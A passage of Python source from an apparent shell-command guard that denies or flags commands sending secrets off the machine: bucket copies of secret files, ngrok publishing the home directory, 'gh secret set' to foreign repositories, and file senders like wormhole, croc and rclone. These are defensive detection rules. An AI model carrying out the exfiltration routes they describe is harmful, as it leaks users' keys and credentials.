    them) copied to a bucket leaves the machine, and a local destination is written like cp's (a bucket's object
    copied over guardtui's policy is a write there); the taxonomy judges the rest."""
    args = [w for w in inv.words if not w.value.startswith("-")]
    values = [w.value for w in args]
    group, verbs = _STORAGE_COPY.get(inv.name, ("", set()))
    skip = 1 if group else 0
    if not verbs or (group and values[:1] != [group]) or len(values) <= skip or values[skip] not in verbs:
        return []
    operands = args[skip + 1:]
    if inv.name == "b2" and values[skip].startswith("download-file") and len(operands) >= 2:
        operands = [Word.literal("b2://" + operands[0].value), *operands[1:]]  # bucket file LOCAL
    remote = [w for w in operands if _is_remote(inv.name, w.value)]
    if not remote:
        return []
    for w in operands:
        if w in remote:
            continue
        info = run.path(w, inv)
        if info.path and (is_secret(info.path, inv.scope.home, run.tax) or
                          is_secret_area(info.path, inv.scope.home)):
            return [deny(f"{inv.name} copies {w.display()}, a secrets file, to {remote[0].display()}: it leaves the "
                         f"machine", "secrets", "net.exfiltration")]
    destination = operands[-1] if len(operands) >= 2 else None
    if destination is not None and destination not in remote and not destination.dynamic:
        info = run.path(destination, inv)
        if info.path and not info.remote:
            run.effect(info.path, destination.display(), "write", inv.cmd, False,
                       recursive=values[skip] in ("sync", "rsync", "mirror", "copy", "bisync"))
    return []


def _is_remote(tool: str, value: str) -> bool:
    if value.startswith(("/", "./", "../", "~")):
        return False
    if tool == "mc":  # mc names remotes ALIAS/BUCKET/…: a local path is given with ./ or /
        return "/" in value and not value.startswith(".")
    return bool(_REMOTE_OPERAND.match(value))


def ngrok(run: "Run", inv: "Invocation") -> list[Finding]:
    """ngrok http file:///DIR serves a directory on a public URL: the home directory (or /) with it, keys and
    tokens included, denies; the taxonomy judges the rest (a port exposed asks)."""
    values = [w.value for w in inv.words]
    if values[:1] not in (["http"], ["tunnel"]):
        return []
    for w in inv.words[1:]:
        if w.value.startswith("file://"):
            info = run.path(Word(w.value[len("file://"):] or "/", w.raw), inv)
            if info.kind in (PathKind.HOME_ROOT, PathKind.HOME_ANCESTOR, PathKind.ROOT) or \
                    (info.path and is_secret_area(info.path, inv.scope.home)):
                return [deny(f"ngrok serves {w.display()} ({info.kind.value}: keys and tokens with it) on a public URL",
                             "secrets", "net.publish-files")]
    return []


def _forge_secret(run: "Run", inv: "Invocation") -> list[Finding]:
    """gh secret set NAME [--repo OWNER/REPO] (--body VALUE | < FILE): setting a secret of the project's own
    repository asks; handing a secret to someone else's repository (or organisation) sends it away."""
    words = [w.value for w in inv.words]
    repo = next((words[i + 1] for i, w in enumerate(words[:-1]) if w in ("-R", "--repo", "-o", "--org")), None) or \
        next((w.partition("=")[2] for w in words if w.startswith(("--repo=", "--org="))), None)
    carries = any(("$(" in w.raw or "`" in w.raw) and secret_in_text(w.raw + " " + w.origin, inv.scope)
                  for w in inv.words) or run.stdin_source(inv.cmd).kind == "secret"
    owner, _, name = (repo or "").lower().partition("/")
    own = _origin_owner(inv.scope.cwd)
    project = posixpath.basename((inv.scope.project or inv.scope.cwd or "").rstrip("/")).lower()
    # no origin to compare with: a repository named like the project is taken for its own
    foreign = own is not None and owner != own or own is None and bool(name) and name != project
    if carries and repo and DYN not in repo and foreign:
        return [deny(f"{inv.name} secret set hands a secret to {repo}, a repository that is not this project's",
                     "secrets", "net.publish-secret")]
    return [ask(f"{inv.name} secret set stores a secret in {repo or 'this repository'}'s CI", "secrets",
                BlastRadius.MEDIUM, "net.forge-secret")]


def _origin_owner(cwd: str | None) -> str | None:
    repo = repository(cwd) if cwd else None
    text = read_text(posixpath.join(repo[1], "config"), 65536) if repo else None
    url = config_settings(text or "").get("remote.origin.url", "")
    m = re.search(r"[:/]([\w.-]+)/[\w.-]+?(?:\.git)?/?$", url)
    return m.group(1).lower() if m else None


def sender(run: "Run", inv: "Invocation") -> list[Finding]:
    """wormhole send FILE, croc send FILE, ntfy publish TOPIC "$(…)": a secret file or a substitution that
    carries one leaves the machine (denies); anything else sent asks."""
    subs = tuple(run.tax.senders.get(inv.name, ()))
    if any(w.value in ("--dry-run", "-n", "--dryrun") for w in inv.words):
        return []  # only says what it would send
    operands = [w for w in inv.words if not w.value.startswith("-")]
    sub = operands[0].value if operands else ""
    if sub not in subs and "" not in subs:
        return []
    carried = [_sends_output(w, inv) for w in inv.words if "$(" in w.raw or "`" in w.raw]
    denied = next((f for f in carried if f.verdict is Verdict.DENY), None)
    if denied is not None:
        return [denied]
    if inv.name == "rclone":  # the operands, not the values of its options (--max-age 8d)
        values = set(run.tax.commands.get("rclone", {}).get("value_options", ()))
        operands = [w for i, w in enumerate(inv.words) if not w.value.startswith("-") and
                    not (i and inv.words[i - 1].value in values)]
    if inv.name == "rclone" and not any(":" in w.value for w in operands[-1:]):
        if sub in ("copy", "copyto") and len(operands) == 3 and ":" in operands[1].value:
            # rclone copy REMOTE:path data/raw: a download; where it lands is a write cloud_copy recorded
            return [allow(f"rclone {sub} downloads {operands[-2].display()} into {operands[-1].display()}", "network",
                          rule="net.download")]
        return []  # rclone between local paths: a copy (the file rules judge it)
    for w in operands[(1 if sub in subs and sub else 0):]:
        # oras push REF FILE:media/type: the file before its media type
        word = Word.literal(re.sub(r":[\w.+-]+/[\w.+-]+$", "", w.value)) if inv.name == "oras" else w
        info = run.path(word, inv)
        if info.path and (is_secret(info.path, inv.scope.home, run.tax) or is_secret_area(info.path, inv.scope.home)
                          or holds_credentials(info.path)):
            return [deny(f"{inv.name} sends {w.display()} (keys or credentials) to another machine", "secrets",
                         "net.send-secret")]
    return [ask(f"{inv.name} {sub} sends data to another machine", "network", BlastRadius.MEDIUM, "net.send")]

